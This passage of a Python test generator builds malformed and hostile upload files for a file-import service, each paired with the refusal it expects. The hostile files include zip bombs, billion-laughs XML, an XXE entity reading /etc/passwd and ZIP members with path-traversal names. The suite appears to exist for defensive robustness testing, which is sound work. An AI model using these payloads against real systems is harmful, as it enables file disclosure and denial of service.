            '[{"key": "mk-1"}, {"key": "mk-2", "v": 2}, {"other": 3}]',
            3,
            ("mk-1", "mk-2"),
        ),
        "nested_ok.json": (
            '[{"key": "nk-1", "v": {"a": {"b": {"c": [1, 2, {"d": 3}]}}}}]',
            1,
            ("nk-1",),
        ),
        "unicode_ok.json": ('[{"key": "uo-1", "v": "\\u00e9\\u202e\\ud83d\\ude00"}]', 1, ("uo-1",)),
        "ndjson_crlf.ndjson": ('{"key": "c-1"}\r\n{"key": "c-2"}\r\n', 2, ("c-1", "c-2")),
    }
    for name, (text, n, spot) in accepted.items():
        yield Case(
            "JSON shapes",
            name,
            _const(text.encode()),
            rows=n,
            spot=spot,
            note=name.rsplit(".", 1)[0].replace("_", " "),
        )
    late = (
        "\n".join(f'{{"key": "lt-{i}", "v": {i}}}' for i in range(30_000))
        + '\n{"key": "lt-x", "v": "text"}\n'
    )
    yield Case(
        "JSON shapes",
        "late_type_change.ndjson",
        _const(late.encode()),
        rows=30_001,
        spot=("lt-0", "lt-x"),
        note="a type change after 30,000 records",
    )


def _xlsx(rng: random.Random) -> Iterator[Case]:
    yield Case(
        "zip bombs",
        "bomb_1gib.xlsx",
        lambda: bomb_honest(1024),
        refuse="zip_bomb",
        bomb=True,
        note="sheet really inflates to 1 GiB (~1,000:1)",
    )
    yield Case(
        "zip bombs",
        "bomb_200mib.xlsx",
        lambda: bomb_honest(200),
        refuse="zip_bomb",
        bomb=True,
        note="sheet really inflates to 200 MiB",
    )
    yield Case(
        "zip bombs",
        "bomb_overlap.xlsx",
        lambda: bomb_overlapping(16, 256),
        refuse="zip_bomb",
        bomb=True,
        note="16 entries sharing one 256 MiB kernel (4 GiB)",
    )
    yield Case(
        "zip bombs",
        "bomb_overlap_many.xlsx",
        lambda: bomb_overlapping(5_000, 1),
        refuse="zip_bomb",
        bomb=True,
        note="5,000 entries sharing one 1 MiB kernel (5 GiB)",
    )
    yield Case(
        "zip bombs",
        "bomb_declared.xlsx",
        lambda: bomb_declared(4_000_000_000),
        refuse="zip_bomb",
        bomb=True,
        note="declares 4 GB for a tiny sheet",
    )
    yield Case(
        "zip bombs",
        "bomb_understated.xlsx",
        lambda: bomb_understated(300),
        refuse="damaged_xlsx",
        bomb=True,
        note="a 300 MiB sheet declaring 100 kB",
    )
    yield Case(
        "zip bombs",
        "bomb_nested.xlsx",
        lambda: bomb_nested(1024),
        refuse="zip_bomb",
        bomb=True,
        note="a 1 GiB bomb packed inside as an extra part",
    )
    zeros = zip_members({**_WORKBOOK_PARTS, "xl/worksheets/sheet1.xml": b"\0" * (20 << 20)})
    yield Case(
        "zip bombs",
        "bomb_zeros.xlsx",
        _const(zeros),
        refuse="zip_bomb",
        bomb=True,
        note="20 MiB of zeros",
    )

    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
            for i in range(1, 10)
        )
        + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row><c t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    yield Case(
        "XML attacks",
        "billion_laughs.xlsx",
        _const(workbook(laughs)),
        refuse="damaged_xlsx",
        bomb=True,
        note="billion-laughs entities in the sheet XML",
    )
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row><c t="inlineStr"><is><t>k</t></is></c></row>'
        b'<row><c t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
    )
    yield Case(
        "XML attacks",
        "xxe.xlsx",
        _const(workbook(xxe)),
        refuse="damaged_xlsx",
        note="an external entity pointing at /etc/passwd",
    )
    yield Case(
        "XML attacks",
        "bad_xml.xlsx",
        _const(workbook(b"<worksheet><sheetData><row>")),
        refuse="damaged_xlsx",
        note="truncated sheet XML",
    )
    yield Case(
        "XML attacks",
        "deep_xml.xlsx",
        _const(workbook(_SHEET_HEAD + b"<a>" * 100_000 + b"</a>" * 100_000 + _SHEET_TAIL)),
        refuse="no_data",
        note="100,000 nested elements, no rows",
    )

    rows = [["key", "v"], *[[f"x-{i}", i] for i in range(10)]]
    good = xlsx_bytes(rows)
    yield Case(
        "Excel structure",
        "good.xlsx",
        _const(good),
        rows=10,
        spot=("x-0", "x-9"),
        note="a plain workbook (control)",
    )
    yield Case(
        "Excel structure",
        "not_zip.xlsx",
        _const(b"key,v\nx,1\n"),
        refuse="not_xlsx",
        note="CSV text named .xlsx",
    )
    yield Case(
        "Excel structure",
        "pk_garbage.xlsx",
        _const(b"PK\x03\x04" + bytes(rng.getrandbits(8) for _ in range(5_000))),
        refuse="damaged_xlsx",
        note="ZIP magic then noise",
    )
    yield Case(
        "Excel structure",
        "truncated.xlsx",
        _const(good[: len(good) // 2]),
        refuse="damaged_xlsx",
        note="cut in half",
    )
    yield Case(
        "Excel structure",
        "no_workbook.xlsx",
        _const(zip_members({"hello.txt": b"hi"})),
        refuse="damaged_xlsx",
        note="a ZIP without xl/workbook.xml",
    )
    with zipfile.ZipFile(io.BytesIO(good)) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    trav = dict(parts)
    trav["../../../../tmp/iops_evil.txt"] = b"pwned"
    trav["/etc/iops_evil.txt"] = b"pwned"
    yield Case(
        "Excel structure",
        "traversal.xlsx",
        _const(zip_members(trav)),
        rows=10,
        spot=("x-0",),
        note="members named ../../../../tmp/… and /etc/…",
    )
    many = dict(parts)
    many.update({f"junk/{i}.bin": b"" for i in range(5_000)})
    yield Case(
        "Excel structure",
        "many_members.xlsx",
        _const(zip_members(many, method=zipfile.ZIP_STORED)),
        rows=10,
        spot=("x-0",),
        note="5,000 extra members",
    )
    too_many = dict(parts)
    too_many.update({f"junk/{i}.bin": b"" for i in range(10_001)})
    yield Case(
        "Excel structure",
        "too_many_members.xlsx",
        _const(zip_members(too_many, method=zipfile.ZIP_STORED)),
        refuse="zip_bomb",
        note="10,001 extra members",
    )
    no_sheet = {k: v for k, v in parts.items() if "worksheets/" not in k}
    yield Case(
        "Excel structure",
        "missing_sheet.xlsx",
        _const(zip_members(no_sheet)),
        refuse="no_data",
        note="the sheet part removed",
    )
    yield Case(
        "Excel structure",
        "empty_sheet.xlsx",
        _const(xlsx_bytes([])),
        refuse="no_data",
        note="no cells at all",
    )
    yield Case(
        "Excel structure",
        "header_only.xlsx",
        _const(xlsx_bytes([["a", "b"]])),
        rows=0,
        note="a header row only",
    )
    yield Case(
        "Excel structure",
        "xlsm.xlsm",
        _const(good),
        rows=10,
        spot=("x-0",),
        note="a workbook named .xlsm",
    )


def _too_large(rng: random.Random) -> Iterator[Case]:
    limit = 1 << 20
    for i, (ext, size) in enumerate(
        (
            ("csv", limit + 1),
            ("csv", 3 * limit),
            ("parquet", limit + 100),
            ("xlsx", 2 * limit),
            ("json", limit + 1),
        )
    ):
        body = b"key\n" + b"0123456789abcde\n" * (size // 16 + 1)
        yield Case(
            "over the size limit",
            f"big{i}.{ext}",
            _const(body[:size]),
            refuse="too_large",
            limit_mb=1,
            note=f"{size:,} B with a 1 MB limit",
        )
    body = b"key\n" + b"0123456789abcde\n" * (limit // 16 - 1)
    yield Case(
        "over the size limit",
        "just_under.csv",
        _const(body),
        rows=limit // 16 - 1,
        limit_mb=1,
        spot=("0123456789abcde",),
        note="just under the 1 MB limit (control)",
    )


def _compressed(rng: random.Random) -> Iterator[Case]:
    import gzip

    header, rows = _table(rng, 50, "gz")
    data = _csv(header, rows)
    yield Case(
        "compressed input",
        "data.csv.gz",
        _const(gzip.compress(data, mtime=0)),
        refuse="compressed",
        note="gzip (.csv.gz)",
    )
    yield Case(
        "compressed input",
        "gz_named.csv",
        _const(gzip.compress(data, mtime=0)),
        refuse="compressed",
        note="gzip bytes named .csv",
    )
    yield Case(
        "compressed input",
        "zipped.csv",
        _const(zip_members({"data.csv": data})),
        refuse="compressed",
        note="a ZIP of a CSV named .csv",
    )
    yield Case(
        "compressed input",
        "data.json.gz",
        _const(gzip.compress(b'[{"a": 1}]', mtime=0)),
        refuse="compressed",
        note="gzip (.json.gz)",
    )


def _misnamed(rng: random.Random) -> Iterator[Case]:
    pq_data, n = _parquet_base(rng)
    yield Case(
        "wrong extension", "pq_as.csv", _const(pq_data), refuse="binary", note="Parquet named .csv"
    )
    yield Case(
        "wrong extension",
        "xlsx_as.csv",
        _const(xlsx_bytes([["a"], [1]])),
        refuse="compressed",
        note="Excel named .csv",
    )
    yield Case(
        "wrong extension",
        "json_as.csv",
        _const(b'[{"key": "ja-1"}]'),
        rows=0,
        note="JSON named .csv (one line: a header)",
    )
    yield Case(
        "wrong extension",
        "csv_as.json",
        _const(b"key,v\nca-1,1\n"),
        refuse="invalid_json",
        note="CSV named .json",
    )
    yield Case(
        "wrong extension",
        "noext",
        _const(b"key,v\nne-1,1\n"),
        rows=1,
        spot=("ne-1",),
        note="no extension (sniffed)",
    )
    yield Case(
        "wrong extension",
        "pq_noext",
        _const(pq_data),
        rows=n,
        spot=("pq-0",),
        note="Parquet, no extension",
    )
    yield Case(
        "wrong extension",
        "old.xls",
        _const(b"\xd0\xcf\x11\xe0" + b"\0" * 600),
        refuse="not_xlsx",
        note="an old .xls",
    )
    yield Case(
        "wrong extension",
        "elf.csv",
        _const(b"\x7fELF" + bytes(rng.getrandbits(8) for _ in range(800))),
        refuse="binary",
        note="a program named .csv",
    )
    yield Case(
        "wrong extension",
        "pdf.csv",
        _const(b"%PDF-1.4\n" + b"x" * 500),
        refuse="binary",
        note="a PDF named .csv",
    )


def _values(rng: random.Random) -> Iterator[Case]:
    rows = [
        ["v-1", "99999999999999999999999999999"],
        ["v-2", "-9223372036854775809"],
        ["v-3", "1e999"],
        ["v-4", "NaN"],
        ["v-5", "inf"],
        ["v-6", ""],
        ["v-7", "NULL"],
        ["v-8", "0x1F"],
    ]
    yield Case(
        "odd values",
        "numbers.csv",
        _const(_csv(["key", "v"], rows)),
        rows=len(rows),
        spot=("v-1", "v-8"),
        note="out-of-range and special numbers",
    )
    dates = [
        ["d-1", "2024-02-30"],
        ["d-2", "0000-00-00"],
        ["d-3", "9999-12-31"],
        ["d-4", "2024-13-01"],
    ]
    yield Case(
        "odd values",
        "dates.csv",
        _const(_csv(["key", "d"], dates)),
        rows=4,
        spot=("d-1", "d-4"),
        note="impossible dates",
    )
    many = [[f"r-{i}", str(i)] for i in range(200_000)]
    yield Case(
        "odd values",
        "many_rows.csv",
        _const(_csv(["key", "v"], many)),
        rows=len(many),
        spot=_spot(many),
        note="200,000 rows (control)",
    )
    delim = [["s-1", "a;b;c"], ["s-2", "d|e"]]
    yield Case(
        "odd values",
        "delims.csv",
        _const(_csv(["key", "v"], delim, sep=",")),
        rows=2,
        spot=("s-1",),
        note="other delimiters inside values",
    )


_FAMILIES = [
    _empty,
    _header_only,
    _random_bytes,
    _truncated_parquet,
    _corrupt_parquet,
    _ragged,
    _quotes,
    _nul,
    _encodings,
    _newlines,
    _quoted_newlines,
    _long_lines,
    _wide,
    _headers,
    _file_names,
    _formulas,
    _json,
    _xlsx,
    _too_large,
    _compressed,
    _misnamed,
    _values,
]
